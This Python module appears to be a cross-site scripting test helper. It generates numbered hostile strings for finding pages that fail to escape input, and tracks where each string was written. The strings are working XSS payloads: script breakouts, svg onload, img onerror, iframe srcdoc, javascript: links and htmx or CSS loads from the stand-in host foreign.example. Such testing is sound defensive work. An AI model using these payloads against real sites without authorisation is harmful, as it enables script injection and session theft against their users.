"""Words that become script, or a request elsewhere, on any page that forgets to escape them. Each has a number."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

# Reserved for examples (RFC 2606): nobody answers there, and every request for it is counted.
FOREIGN = "foreign.example"
NUMBER = re.compile(r"xss\((\d+)\)")
# From the longest to the shortest: the first that fits is used. `N` is the number.
_SHAPES = (
    "'\"--></title></textarea></script><script>xss(N)</script><svg onload=xss(N)>"
    '<img src=//foreign.example/N onerror=xss(N)><iframe srcdoc="<script>parent.xss(N)</script>"></iframe>'
    '<b hx-get="https://foreign.example/N" hx-trigger="load">b</b>'
    "<a href=\"javascript:xss(N)\" autofocus onfocus=xss(N)>a</a><style>@import '//foreign.example/N'</style><x-xss>",
    "'\"></script><svg onload=xss(N)><img src=//foreign.example/N onerror=xss(N)><x-xss>",
    "'\"><img src=//foreign.example onerror=xss(N)>",
    "'\"><svg onload=xss(N)>",
)
# Names of files lose whatever stands before a slash.
_WITHOUT_SLASH = ("'\"><img src=x onerror=xss(N)><svg onload=xss(N)><x-xss>", "'\"><svg onload=xss(N)>")


@dataclass
class Words:
    """`places`: what each number was written into."""

    places: dict[int, str] = field(default_factory=dict)

    def hostile(self, place: str, room: int = 1000, *, slash: bool = True) -> str:
        """Empty where not even the shortest has room."""
        number = 100 + len(self.places)
        for shape in _SHAPES if slash else _WITHOUT_SLASH:
            made = shape.replace("N", str(number))
            if len(made) <= room:
                self.places[number] = place
                return made
        return ""

    def forget(self, about: str) -> None:
        """What was written there was not kept."""
        for number in [number for number, place in self.places.items() if place.startswith(f"{about}: ")]:
            self.places[number] = ""


def numbers(text: str) -> set[int]:
    return {int(number) for number in NUMBER.findall(text)}
